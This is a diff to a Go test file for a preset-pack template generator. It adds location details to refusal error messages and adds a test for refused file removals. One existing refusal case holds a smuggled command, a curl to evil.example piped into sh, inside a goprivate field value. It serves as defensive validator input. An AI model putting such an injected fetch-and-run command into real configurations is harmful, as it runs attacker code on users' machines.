@@ -200,9 +200,9 @@ func TestPackRefusals(t *testing.T) {
 		{name: "goprivate injection", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: \"x/*\\\"\\n  EVIL: \\\"injected\"\n"}, want: "p/preset.yaml:2:12: goprivate"},
 		{name: "goprivate shell", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: 'x.example/*; curl http://evil.example/p | sh'\n"}, want: "goprivate: pattern"},
 		{name: "leaving a locked module prefix", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/someone-else\n", "p/org/preset.yaml": orgPack},
-			want: "p/preset.yaml: module_prefix github.com/someone-else: module_prefix is locked to github.com/acme by preset acme"},
-		{name: "a locked module prefix's sibling", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nmodule_prefix: github.com/acme-evil\n", "p/org/preset.yaml": orgPack},
-			want: "module_prefix is locked to github.com/acme by preset acme"},
+			want: "p/preset.yaml:3:16: module_prefix github.com/someone-else: module_prefix is locked to github.com/acme by preset acme (p/org/preset.yaml:7:14), which this pack extends"},
+		{name: "a locked module prefix's sibling", files: map[string]string{"p/preset.yaml": "name: p\nextends: ./org\nanswers:\n  ci: gitlab\nmodule_prefix: github.com/acme-evil\n", "p/org/preset.yaml": orgPack},
+			want: "p/preset.yaml:5:16: module_prefix github.com/acme-evil: module_prefix is locked to github.com/acme by preset acme"},
 		{name: "goprivate empty element", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/*,,b.example\n"}, want: "empty pattern"},
 		{name: "goprivate bad glob", files: map[string]string{"p/preset.yaml": "name: p\ngoprivate: a.example/[x\n"}, want: "syntax error in pattern"},
 		{name: "name with control characters", files: map[string]string{"p/preset.yaml": "name: \"p\\e[31m\"\n"}, want: "p/preset.yaml:1:7: name"},
@@ -843,6 +843,41 @@ func TestRenderErrorsNameThePackFile(t *testing.T) {
 			_, err = generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
 			if err == nil || !strings.Contains(err.Error(), tt.want) {
 				t.Errorf("render: %v, want an error holding %q", err, tt.want)
+			}
+		})
+	}
+}
+
+// TestRemoveErrorsNameTheEntry checks that a refused removal names the remove entry of
+// the pack that holds it, file:line:column, an extended pack's too.
+func TestRemoveErrorsNameTheEntry(t *testing.T) {
+	tests := []struct {
+		name, base, child, want string
+	}{
+		{"a file a built-in calls", "remove: [Dockerfile]\n", "", "packs/base/preset.yaml:3:10: remove Dockerfile: the built-in Makefile builds the image from it"},
+		{"in the extending pack", "", "remove:\n  - README.md\n  - Dockerfile\n", "packs/child/preset.yaml:5:5: remove Dockerfile: the built-in Makefile"},
+		{"go.mod", "", "remove: [go.mod]\n", "packs/child/preset.yaml:3:10: remove go.mod: the project cannot do without it"},
+		{"go.sum", "remove: [go.sum]\n", "", "packs/base/preset.yaml:3:10: remove go.sum: the project cannot do without it"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			writeTree(t, dir, map[string]string{
+				"packs/go.mod":            "module example.com/packs\n",
+				"packs/base/preset.yaml":  "name: base\nextends: default\n" + tt.base,
+				"packs/child/preset.yaml": "name: child\nextends: ../base\n" + tt.child,
+			})
+			p, err := Resolver{Dir: dir}.Resolve(context.Background(), "./packs/child")
+			if err != nil {
+				t.Fatal(err)
+			}
+			a, _, err := p.Resolve(moduleLayer("example.com/acme/orders"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			_, err = generator.Render(context.Background(), p.Project(a, "v0.0.0-test"))
+			if err == nil || !strings.HasPrefix(err.Error(), tt.want) {
+				t.Errorf("render: %v, want an error starting %q", err, tt.want)
 			}
 		})
 	}
